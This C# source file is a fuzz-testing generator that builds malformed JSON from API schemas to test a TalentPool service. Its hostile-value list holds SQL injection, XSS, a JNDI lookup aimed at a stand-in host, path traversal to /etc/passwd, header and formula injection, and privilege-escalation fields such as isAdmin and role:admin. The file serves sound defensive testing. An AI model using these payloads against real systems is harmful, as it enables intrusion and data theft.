using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using CsCheck;

namespace TalentPool.Tests.Fuzz;

/// <summary>JSON as text, so that it may be what no serializer would write: by the schemas of the contract, mostly right, with something wrong in it.</summary>
/// <param name="schemas">The schemas by their reference.</param>
/// <param name="known">Values that mean something in the scene: ids, codes, numbers.</param>
sealed partial class FuzzJson(IReadOnlyDictionary<string, JsonElement> schemas, IReadOnlyList<string> known)
{
    const int DeepestObject = 5;

    static readonly string Deep = new string('[', 200) + new string(']', 200);

    /// <summary>What is wrong almost anywhere: other types, bounds, characters that hide or end something, words of other languages.</summary>
    public static readonly Gen<string> Hostile = Gen.Frequency(
        (30, Gen.OneOf("null", "true", "0", "-1", "1", "2147483647", "2147483648", "-9223372036854775809", "99999999999999999999999", "1e400", "-0", "1.5", "NaN", "[]", "{}", "[null]", "[[]]", "{\"\":{}}", Deep)),
        (30, Gen.OneOf(
            "", " ", "　", "\0", "\u200b", "\u202eabc", "\ufeff", "\r\nBcc: all@victim.example", "\n", "\u2028", "a\tb", "\u001b[31m", "' OR '1'='1", "'; DROP TABLE Account; --", "\" OR \"\"=\"", "%", "_", "[a-z]%", "\\",
            "=HYPERLINK(\"http://x.example\")", "@SUM(1)", "+1", "-1", "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x.example}", "../../../../etc/passwd",
            "//x.example", "𠮷野家👩‍👩‍👧", "ｱｲｳ", "İıß", "0000-00-00", "0001-01-01", "9999-12-31", "2026-02-30", "2026-13", "平成99年13月", "2026-11-24T00:00:00+99:00", "00000000-0000-0000-0000-000000000000", "not-a-guid", "１２３").Select(Quote)),
        (2, Gen.OneOf("\"\\ud800\"", "\"\\udc00x\"", "\"\\u0000\"", "\"\\x\"", "\"unended", "'single'", "01", "+1", ".5", "tru", "/*c*/1", "1,", ":")),
        (2, Gen.Int[1_000, 5_000].Select(length => Quote(new string('あ', length)))),
        (1, Gen.Const(Quote(new string('x', 120_000)))),
        (5, Gen.String[Gen.Char, 0, 40].Select(Quote)));

    /// <summary>A value by its schema; now and then another.</summary>
    public Gen<string> Of(JsonElement schema, int depth = 0) => Gen.Frequency((14, Right(schema, depth)), (1, Hostile));

    /// <summary>A body that is right, with one thing changed in it: a value replaced, left out, given twice or added.</summary>
    public static Gen<string> Changed(string right)
    {
        var places = Places(JsonNode.Parse(right)!).Count;
        return Gen.Select(Gen.Int[0, Math.Max(0, places - 1)], Gen.Int[0, 9], Hostile).Select((place, act, hostile) => Change(right, place, act, hostile));
    }

    public static string Quote(string text) => JsonSerializer.Serialize(text);

    Gen<string> Right(JsonElement schema, int depth)
    {
        if (schema.TryGetProperty("$ref", out var reference)) return depth > DeepestObject ? Gen.Const("null") : Right(schemas[reference.GetString()!], depth + 1);
        foreach (var union in (string[])["allOf", "oneOf", "anyOf"])
            if (schema.TryGetProperty(union, out var parts)) return Gen.OneOf([.. parts.EnumerateArray().Select(part => Right(part, depth))]);
        if (schema.TryGetProperty("enum", out var words)) return Gen.OneOf([.. words.EnumerateArray().Select(word => word.GetRawText())]);
        return (schema.TryGetProperty("type", out var type) ? type.GetString() : "object") switch
        {
            "boolean" => Gen.OneOf("true", "false"),
            "integer" => Gen.OneOf(Gen.Int[-1, 60], Gen.Int[1900, 2100], Gen.Int).Select(number => number.ToString(System.Globalization.CultureInfo.InvariantCulture)),
            "number" => Gen.OneOf(Gen.Double[0, 60], Gen.Double).Select(number => double.IsFinite(number) ? JsonSerializer.Serialize(number) : "0"),
            "string" => Text(schema),
            "array" => Of(schema.GetProperty("items"), depth + 1).Array[0, 4].Select(items => $"[{string.Join(',', items)}]"),
            _ => Object(schema, depth),
        };
    }

    // Words that the description names, such as "approved, returned or rejected", are what the field means.
    Gen<string> Text(JsonElement schema)
    {
        var format = schema.TryGetProperty("format", out var given) ? given.GetString() : null;
        var meant = schema.TryGetProperty("description", out var description) ? Word().Matches(description.GetString()!).Select(word => word.Value).Distinct().ToArray() : [];
        var right = format switch
        {
            "uuid" => Gen.OneOf(Gen.OneOf([.. known.Where(value => Guid.TryParse(value, out _))]), Gen.Guid.Select(id => id.ToString())),
            "date" => Gen.Int[-2_000, 2_000].Select(days => new DateOnly(2026, 11, 24).AddDays(days).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture)),
            "date-time" => Gen.Int[-2_000, 2_000].Select(days => new DateTimeOffset(2026, 11, 24, 0, 0, 0, TimeSpan.Zero).AddDays(days).ToString("O")),
            _ => Gen.OneOf(Gen.OneOf([.. known]), Gen.OneOf("a long enough password 2026", "2014-04", "2024-03", "03-1234-5678", "山田 花子", "ヤマダ ハナコ", "hanako@people.example"), Gen.String[Gen.Char.AlphaNumeric, 1, 30]),
        };
        return (meant.Length == 0 || format is not null ? right : Gen.OneOf(right, Gen.OneOf(meant))).Select(Quote);
    }

    Gen<string> Object(JsonElement schema, int depth)
    {
        if (depth > DeepestObject || !schema.TryGetProperty("properties", out var properties)) return Gen.Const("{}");
        var members = properties.EnumerateObject().Select(member => Gen.Select(Of(member.Value, depth + 1), Gen.Int[0, 19]).Select((value, chance) => chance switch
        {
            0 => "",
            1 => $"{Quote(member.Name)}:{value},{Quote(member.Name)}:{value}",
            2 => $"{Quote(member.Name.ToUpperInvariant())}:{value}",
            _ => $"{Quote(member.Name)}:{value}",
        })).ToArray();
        return Sequence(members).Select(given => string.Join(',', given.Where(member => member.Length > 0)))
            .SelectMany(given => Gen.Frequency((12, Gen.Const($"{{{given}}}")), (1, Gen.Const(given.Length == 0 ? "{\"isAdmin\":true}" : $"{{{given},\"isAdmin\":true}}"))));
    }

    static Gen<string[]> Sequence(Gen<string>[] parts) =>
        parts.Aggregate(Gen.Const(Array.Empty<string>()), (whole, part) => Gen.Select(whole, part).Select((before, next) => (string[])[.. before, next]));

    static string Change(string right, int place, int act, string hostile)
    {
        var root = JsonNode.Parse(right)!;
        var (owner, name) = Places(root)[place];
        var mark = "\u0001here";
        switch (act)
        {
            case 0 when owner is JsonObject members:
                members.Remove(name!);
                return root.ToJsonString();
            case 1 when owner is JsonObject members:
                members["role"] = "admin";
                return root.ToJsonString();
            case 2 when owner is JsonObject members:
                var whole = members.ToJsonString();
                return root == members ? $"{whole[..^1]},{Quote(name!)}:{members[name!]?.ToJsonString() ?? "null"}}}" : root.ToJsonString();
        }

        if (owner is JsonObject holder) holder[name!] = mark;
        else if (owner is JsonArray array) array[int.Parse(name!, System.Globalization.CultureInfo.InvariantCulture)] = mark;
        else return hostile;
        return root.ToJsonString().Replace(JsonSerializer.Serialize(mark), hostile, StringComparison.Ordinal);
    }

    // Every place that holds a value; a null owner is the whole.
    static List<(JsonNode? Owner, string? Name)> Places(JsonNode root)
    {
        List<(JsonNode?, string?)> places = [(null, null)];
        Walk(root);
        return places;

        void Walk(JsonNode? node)
        {
            if (node is JsonObject members)
                foreach (var (name, value) in members)
                {
                    places.Add((members, name));
                    Walk(value);
                }

            if (node is JsonArray items)
                for (var index = 0; index < items.Count; index++)
                {
                    places.Add((items, index.ToString(System.Globalization.CultureInfo.InvariantCulture)));
                    Walk(items[index]);
                }
        }
    }

    [GeneratedRegex("\\b[a-z]+[A-Za-z-]*\\b")]
    private static partial Regex Word();
}
